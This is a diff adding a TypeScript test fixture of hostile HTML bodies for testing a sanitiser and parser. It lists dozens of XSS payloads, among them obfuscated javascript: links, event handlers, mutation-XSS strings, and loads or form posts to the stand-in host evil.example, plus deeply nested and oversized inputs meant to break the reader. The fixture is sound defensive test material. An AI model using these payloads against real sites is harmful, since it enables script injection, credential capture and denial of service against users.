@@ -1,0 +1,103 @@
+/**
+ * Bodies that want to do harm. Each holds the word 安全, which must stay readable, and tries to run `hit()`, to reach `evil.example`, or
+ * to break the reader. Used by the server's sanitiser, the client's parser, and the specs on both platforms.
+ */
+export interface HostileDocument {
+  name: string
+  html: string
+}
+
+const SAFE = '<p>安全</p>'
+const of = (name: string, html: string): HostileDocument => ({ name, html: `${SAFE}${html}` })
+
+export const hostileDocuments: readonly HostileDocument[] = [
+  of('script', '<script>hit()</script>'),
+  of('script from elsewhere', '<script src="https://evil.example/x.js"></script>'),
+  of('script in capitals with an attribute', '<ScRiPt type="text/javascript">hit()</sCrIpT>'),
+  of('script split by itself', '<scr<script>ipt>hit()</scr</script>ipt>'),
+  of('script without an end', '<script>hit()'),
+  of('script with NUL in its name', '<scr\u0000ipt>hit()</scr\u0000ipt>'),
+  of('handler of a picture', '<img src="/media/none.png" onerror="hit()">'),
+  of('handler without quotes', '<img src=x onerror=hit()>'),
+  of('handler behind a slash', '<img/src="/media/none.png"/onerror="hit()">'),
+  of('handler of a paragraph', '<p onclick="hit()" onmouseover="hit()">字</p>'),
+  of('handler of a body', '<body onload="hit()">字</body>'),
+  of('handler of a video', '<video src="/media/none.mp4" onerror="hit()" onloadstart="hit()"></video>'),
+  of('handler of an open element', '<details open ontoggle="hit()"><summary>字</summary></details>'),
+  of('handler that focuses itself', '<input autofocus onfocus="hit()"><textarea autofocus onfocus="hit()"></textarea>'),
+  of('marquee', '<marquee onstart="hit()">字</marquee>'),
+  of('script link', '<a href="javascript:hit()">字</a>'),
+  of('script link with a line break', '<a href="java\nscript:hit()">字</a>'),
+  of('script link with a tab as entity', '<a href="java&#x09;script:hit()">字</a>'),
+  of('script link in entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;hit()">字</a>'),
+  of('script link behind control characters', '<a href="\u0001\u0002 javascript:hit()">字</a>'),
+  of('script link with letters of other alphabets', '<a href="ｊａｖａｓｃｒｉｐｔ:hit()">字</a>'),
+  of('script link with an invisible letter', '<a href="java\u200bscript:hit()">字</a>'),
+  of('vbscript link', '<a href="vbscript:hit()">字</a>'),
+  of('data link', '<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">字</a>'),
+  of('data picture', '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22hit()%22/>">'),
+  of('blob and file pictures', '<img src="blob:https://evil.example/1"><img src="file:///etc/passwd">'),
+  of('script in a poster', '<video src="/media/none.mp4" poster="javascript:hit()"></video>'),
+  of('script in srcset', '<img src="/media/none.png" srcset="javascript:hit() 1x, https://evil.example/x.png 2x">'),
+  of('script in the source of a video', '<video><source src="javascript:hit()" onerror="hit()"></video>'),
+  of('protocol-relative addresses', '<a href="//evil.example/">字</a><img src="//evil.example/x.png">'),
+  of('backslashes for slashes', '<a href="/\\evil.example">字</a><img src="\\\\evil.example\\x.png">'),
+  of('a host behind a name and an at sign', '<a href="https://www.example.com@evil.example/">字</a>'),
+  of('svg with a script', '<svg><script>hit()</script></svg>'),
+  of('svg with a handler', '<svg onload="hit()"><circle r="1"/></svg>'),
+  of('svg that animates a link', '<svg><a><animate attributeName="href" values="javascript:hit()"/><text>字</text></a></svg>'),
+  of('svg that uses another', '<svg><use href="https://evil.example/x.svg#a"/></svg>'),
+  of('math with a link', '<math><mtext href="javascript:hit()">字</mtext></math>'),
+  of(
+    'mutation through math and style',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
+  ),
+  of('mutation through svg and style', '<svg></p><style><a id="</style><img src=1 onerror=hit()>">'),
+  of('mutation through noscript', '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>'),
+  of('mutation through textarea', '<textarea><p title="</textarea><img src=x onerror=hit()>"></textarea>'),
+  of('mutation through backquotes', '<img src="/media/none.png" alt="``onerror=hit()">'),
+  of('template', '<template><img src=x onerror=hit()></template>'),
+  of('style element', '<style>@import "https://evil.example/x.css";body{background:url(javascript:hit())}</style>'),
+  of('style attribute', '<p style="background:url(https://evil.example/x.png);position:fixed;inset:0">字</p>'),
+  of('css expression', '<p style="width:expression(hit());-moz-binding:url(https://evil.example/x.xml)">字</p>'),
+  of('link to a style sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'),
+  of('refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
+  of('base', '<base href="https://evil.example/"><a href="x">字</a><img src="x.png">'),
+  of(
+    'form',
+    '<form action="https://evil.example/"><input name="password"><button formaction="javascript:hit()">字</button></form>',
+  ),
+  of('frame', '<iframe src="https://evil.example/"></iframe><frameset><frame src="javascript:hit()"></frameset>'),
+  of('frame with its own document', '<iframe srcdoc="<script>parent.hit()</script>"></iframe>'),
+  of('object and embed', '<object data="javascript:hit()"><embed src="https://evil.example/x.swf"></object>'),
+  of('portal and custom elements', '<portal src="https://evil.example/"></portal><x-y onclick="hit()">字</x-y>'),
+  of(
+    'names that hide properties',
+    '<a id="location" name="document" href="/doc/1">字</a><img name="getElementById" src="/media/none.png">',
+  ),
+  of('a class that covers the page', '<div class="taro_page" id="app">字</div>'),
+  of('attributes without end', '<a href="https://evil.example/" title="'),
+  of('tags without end', '<b><i><a href="/doc/1"><table><tr><td><ul><li><p'),
+  of('tags in a wrong order', '<table><li></td></ul><tr></p><td></table></b></a>字</tr>'),
+  of('a comment without end', '字<!-- <img src=x onerror=hit()>'),
+  of('conditional comment', '<!--[if gte IE 4]><script>hit()</script><![endif]-->'),
+  of(
+    'cdata and processing instruction',
+    '<![CDATA[<script>hit()</script>]]><?xml-stylesheet href="https://evil.example/x.css"?>',
+  ),
+  of('a script link in a formula', '<span data-tex="\\href{javascript:hit()}{x}"></span>'),
+  of('html in a formula', '<span data-tex="\\text{&lt;/svg&gt;&lt;script&gt;hit()&lt;/script&gt;}"></span>'),
+  of('a formula that calls itself', '<span data-tex="\\def\\x{\\x\\x}\\x"></span>'),
+  of('a formula as large as the world', '<div data-tex="\\rule{9999em}{9999em}"></div>'),
+  of(
+    'a formula with a picture of its own',
+    '<span data-tex="x" data-src="https://evil.example/x.svg" data-width="1" data-height="1" data-depth="0"></span>',
+  ),
+  of('markup in a footnote', '<a data-footnote="<img src=x onerror=hit()>">1</a>'),
+  of('control characters and text written backwards', '字\u0000\u0001\u0008\u000b\u001f\u007f\u0085\u202e字\u2066'),
+  of('half of a pair of surrogates', '字\ud800字'),
+  of('spans of absurd size', '<table><tr><td colspan="1000000000" rowspan="1000000000">字</td></tr></table>'),
+  of('ten thousand nested elements', `${'<div><b>'.repeat(10_000)}字`),
+  of('ten thousand nested lists', `${'<ul><li>'.repeat(10_000)}字`),
+  of('two megabytes of text', `<p>${'长'.repeat(700_000)}</p>`),
+]
